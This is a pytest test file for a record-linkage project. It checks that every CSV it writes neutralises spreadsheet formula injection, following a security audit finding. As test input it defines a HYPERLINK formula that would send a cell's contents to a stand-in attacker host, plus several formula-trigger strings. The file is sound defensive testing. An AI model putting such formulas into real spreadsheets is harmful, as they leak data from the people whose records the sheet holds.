"""Finding 11 (LOW): every CSV the project writes neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from lentera.cli import main
from lentera.csvsafe import neutralise

SRC = Path(__file__).resolve().parents[2] / "src" / "lentera"
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"open")'
#: pandas writers of code-only tables (DP counts, national sums): no free text reaches them
CODE_ONLY_TO_CSV = {"disclosure/dp.py", "commands/hub.py"}


def test_one_csv_writer_everywhere() -> None:
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "csvsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(rel)
        if ".to_csv(" in text and rel not in CODE_ONLY_TO_CSV:
            offenders.append(rel)
    assert not offenders, f"write CSV through lentera.csvsafe.writer: {offenders}"


@pytest.mark.parametrize(
    ("cell", "kept"),
    [("=1+1", False), ("@SUM(A1)", False), ("+cmd", False), ("-2+3", False), ("-12.5", True),
     ("\tx", False), ("Siti", True), ("", True)],
)  # fmt: skip
def test_neutralise(cell: str, kept: bool) -> None:
    assert (neutralise(cell) == cell) is kept


def test_link_match_and_dedupe_outputs_are_neutralised(tmp_path: Path) -> None:
    key = tmp_path / "key"
    key.write_bytes(b"a coalition secret of enough length")
    header = "record_id,full_name,birth_date,sex,nik,birth_place,origin_regency_code,phone\n"
    (tmp_path / "a.csv").write_text(header + "1,Soerjani binti Karto,1990-08-17,female,,,3578,\n")
    (tmp_path / "b.csv").write_text(
        header + f'"{EVIL.replace(chr(34), chr(34) * 2)}",Suryani Karto,1990-08-17,female,,,3578,\n'
    )
    for name in ("a", "b"):
        assert main(["link", "encode", str(tmp_path / f"{name}.csv"), "--key-file", str(key),
                     "--out", str(tmp_path / f"{name}.jsonl")]) == 0  # fmt: skip
    out = tmp_path / "pairs.csv"
    assert main(["link", "match", str(tmp_path / "a.jsonl"), str(tmp_path / "b.jsonl"),
                 "--out", str(out), "--threshold", "0.5"]) == 0  # fmt: skip
    cells = [c for row in csv.reader(out.open()) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
